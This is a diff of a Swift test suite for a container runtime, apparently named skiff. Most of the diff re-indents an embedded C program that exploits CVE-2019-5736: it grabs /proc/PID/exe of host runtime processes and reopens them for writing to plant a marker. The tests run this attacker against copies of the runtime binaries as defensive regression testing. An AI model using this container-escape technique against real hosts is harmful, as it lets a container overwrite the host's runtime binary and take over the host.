@@ -12,90 +12,90 @@ import Testing
 /// SKIFF_ATTACK_BINARIES=DIR attacks the skiff, skiff-monitor and skiff-oci in DIR instead (copied too).
 @Suite(.serialized) struct RuntimeBinaryAttackTests {
     static let attacker = #"""
-#define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <fcntl.h>
-#include <sched.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/stat.h>
-#include <time.h>
-#include <unistd.h>
+        #define _GNU_SOURCE
+        #include <dirent.h>
+        #include <errno.h>
+        #include <fcntl.h>
+        #include <sched.h>
+        #include <stdio.h>
+        #include <stdlib.h>
+        #include <string.h>
+        #include <sys/stat.h>
+        #include <time.h>
+        #include <unistd.h>
 
-/* Races for /proc/PID/exe of every process that runs neither this program nor busybox (so: the host's
- * runtime binary, cloned or exec'd into the container), keeps an O_PATH fd to each, and keeps trying
- * to reopen those for writing until the deadline: CVE-2019-5736. Prints what it got. */
-#define MAX 64
-static int fds[MAX];
-static dev_t devs[MAX];
-static ino_t inos[MAX];
-static int done[MAX];
-static int held;
+        /* Races for /proc/PID/exe of every process that runs neither this program nor busybox (so: the host's
+         * runtime binary, cloned or exec'd into the container), keeps an O_PATH fd to each, and keeps trying
+         * to reopen those for writing until the deadline: CVE-2019-5736. Prints what it got. */
+        #define MAX 64
+        static int fds[MAX];
+        static dev_t devs[MAX];
+        static ino_t inos[MAX];
+        static int done[MAX];
+        static int held;
 
-static double now(void) {
-    struct timespec t;
-    clock_gettime(CLOCK_MONOTONIC, &t);
-    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
-}
-
-static void grab(const struct stat *self_exe, const struct stat *busybox, pid_t self) {
-    DIR *d = opendir("/proc");
-    if (!d) return;
-    struct dirent *e;
-    while ((e = readdir(d)) && held < MAX) {
-        pid_t pid = (pid_t)atoi(e->d_name);
-        if (pid <= 0 || pid == self) continue;
-        char path[64];
-        snprintf(path, sizeof path, "/proc/%d/exe", pid);
-        int fd = open(path, O_PATH | O_CLOEXEC);
-        if (fd < 0) continue;
-        struct stat st;
-        int keep = fstat(fd, &st) == 0 && !(st.st_dev == self_exe->st_dev && st.st_ino == self_exe->st_ino)
-                   && !(st.st_dev == busybox->st_dev && st.st_ino == busybox->st_ino);
-        for (int i = 0; keep && i < held; i++) keep = !(devs[i] == st.st_dev && inos[i] == st.st_ino);
-        if (!keep) { close(fd); continue; }
-        fds[held] = fd; devs[held] = st.st_dev; inos[held] = st.st_ino; held++;
-        printf("held exe of pid %d (dev %lu ino %lu)\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
-        fflush(stdout);
-    }
-    closedir(d);
-}
-
-int main(int argc, char **argv) {
-    double seconds = argc > 1 ? atof(argv[1]) : 5;
-    struct stat self_exe, busybox;
-    if (stat("/proc/self/exe", &self_exe) != 0) { perror("stat /proc/self/exe"); return 2; }
-    if (stat("/bin/busybox", &busybox) != 0) { perror("stat /bin/busybox"); return 2; }
-    pid_t self = getpid();
-    int wrote = 0, last_err = 0;
-    double end = now() + seconds;
-    while (now() < end) {
-        grab(&self_exe, &busybox, self);
-        for (int i = 0; i < held; i++) {
-            if (done[i]) continue;
-            char path[64];
-            snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
-            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
-            if (w < 0) { last_err = errno; continue; }
-            if (write(w, "\n#PWNED-BY-CONTAINER\n", 21) == 21) {
-                wrote++;
-                /* Once is proof enough: trying on would only make the host's next exec of that binary
-                 * fail with ETXTBSY while an fd for writing is open. */
-                done[i] = 1;
-            } else {
-                last_err = errno;
-            }
-            close(w);
+        static double now(void) {
+            struct timespec t;
+            clock_gettime(CLOCK_MONOTONIC, &t);
+            return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
         }
-        sched_yield();
-    }
-    printf("attack: held %d foreign exe(s), wrote %d time(s), last error %s\n", held, wrote,
-           last_err ? strerror(last_err) : "none");
-    return 0;
-}
-"""#
+
+        static void grab(const struct stat *self_exe, const struct stat *busybox, pid_t self) {
+            DIR *d = opendir("/proc");
+            if (!d) return;
+            struct dirent *e;
+            while ((e = readdir(d)) && held < MAX) {
+                pid_t pid = (pid_t)atoi(e->d_name);
+                if (pid <= 0 || pid == self) continue;
+                char path[64];
+                snprintf(path, sizeof path, "/proc/%d/exe", pid);
+                int fd = open(path, O_PATH | O_CLOEXEC);
+                if (fd < 0) continue;
+                struct stat st;
+                int keep = fstat(fd, &st) == 0 && !(st.st_dev == self_exe->st_dev && st.st_ino == self_exe->st_ino)
+                           && !(st.st_dev == busybox->st_dev && st.st_ino == busybox->st_ino);
+                for (int i = 0; keep && i < held; i++) keep = !(devs[i] == st.st_dev && inos[i] == st.st_ino);
+                if (!keep) { close(fd); continue; }
+                fds[held] = fd; devs[held] = st.st_dev; inos[held] = st.st_ino; held++;
+                printf("held exe of pid %d (dev %lu ino %lu)\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
+                fflush(stdout);
+            }
+            closedir(d);
+        }
+
+        int main(int argc, char **argv) {
+            double seconds = argc > 1 ? atof(argv[1]) : 5;
+            struct stat self_exe, busybox;
+            if (stat("/proc/self/exe", &self_exe) != 0) { perror("stat /proc/self/exe"); return 2; }
+            if (stat("/bin/busybox", &busybox) != 0) { perror("stat /bin/busybox"); return 2; }
+            pid_t self = getpid();
+            int wrote = 0, last_err = 0;
+            double end = now() + seconds;
+            while (now() < end) {
+                grab(&self_exe, &busybox, self);
+                for (int i = 0; i < held; i++) {
+                    if (done[i]) continue;
+                    char path[64];
+                    snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
+                    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+                    if (w < 0) { last_err = errno; continue; }
+                    if (write(w, "\n#PWNED-BY-CONTAINER\n", 21) == 21) {
+                        wrote++;
+                        /* Once is proof enough: trying on would only make the host's next exec of that binary
+                         * fail with ETXTBSY while an fd for writing is open. */
+                        done[i] = 1;
+                    } else {
+                        last_err = errno;
+                    }
+                    close(w);
+                }
+                sched_yield();
+            }
+            printf("attack: held %d foreign exe(s), wrote %d time(s), last error %s\n", held, wrote,
+                   last_err ? strerror(last_err) : "none");
+            return 0;
+        }
+        """#
 
     /// A copy of skiff, skiff-monitor and skiff-oci in `dir`, the attacker compiled beside them.
     struct Arsenal {
@@ -108,7 +108,8 @@ int main(int argc, char **argv) {
         init(in base: String) throws {
             dir = base + "/bin"
             try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
-            let built = ProcessInfo.processInfo.environment["SKIFF_ATTACK_BINARIES"]
+            let built =
+                ProcessInfo.processInfo.environment["SKIFF_ATTACK_BINARIES"]
                 ?? (Engine.skiffPath as NSString).deletingLastPathComponent
             var original: [String: Data] = [:]
             // cp in a process of its own: no fd open for writing on a copy can leak from this
@@ -162,8 +163,9 @@ int main(int argc, char **argv) {
         // The attacker is the container's own process, racing while skiff execs into it: the classic
         // entry points (/proc/self/exe, and a script whose interpreter is /proc/self/exe), then plain
         // execs. It goes on for a while after the last skiff on the host has exited (no ETXTBSY then).
-        let started = root.skiff("run", "-d", "--name", "victim", "--network", "none", "-v", "\(tools):/attack:ro",
-                                 "busybox", "/attack/exe-attack", "8")
+        let started = root.skiff(
+            "run", "-d", "--name", "victim", "--network", "none", "-v", "\(tools):/attack:ro",
+            "busybox", "/attack/exe-attack", "8")
         try #require(started.status == 0, "run -d: \(started.err)")
         usleep(300_000)
         // The control, first (on a loaded machine the attacker's window may be over by the end): a host
@@ -196,11 +198,14 @@ int main(int argc, char **argv) {
         let bundle = scratch + "/bundle"
         try FileManager.default.createDirectory(atPath: bundle, withIntermediateDirectories: true)
         try FileManager.default.copyItem(atPath: TestImage.busyboxRootfs, toPath: bundle + "/rootfs")
-        var config = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: fixture + "/config.json"))) as! [String: Any]
+        var config =
+            try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: fixture + "/config.json")))
+            as! [String: Any]
         var process = config["process"] as! [String: Any]
         process["args"] = ["/attack/exe-attack", "6"]
         config["process"] = process
-        config["mounts"] = (config["mounts"] as! [[String: Any]])
+        config["mounts"] =
+            (config["mounts"] as! [[String: Any]])
             + [["destination": "/attack", "type": "bind", "source": tools, "options": ["rbind", "ro"]]]
         try JSONSerialization.data(withJSONObject: config).write(to: URL(fileURLWithPath: bundle + "/config.json"))
 
@@ -229,7 +234,8 @@ int main(int argc, char **argv) {
         for _ in 0..<10 { _ = oci("exec", id, "true") }
         _ = oci("exec", id, "/attack/control", "0.5")
         let deadline = Date().addingTimeInterval(30)
-        while Date() < deadline, !((try? String(contentsOfFile: reportPath, encoding: .utf8)) ?? "").contains("attack:") {
+        while Date() < deadline, !((try? String(contentsOfFile: reportPath, encoding: .utf8)) ?? "").contains("attack:")
+        {
             usleep(100_000)
         }
         let report = (try? String(contentsOfFile: reportPath, encoding: .utf8)) ?? ""
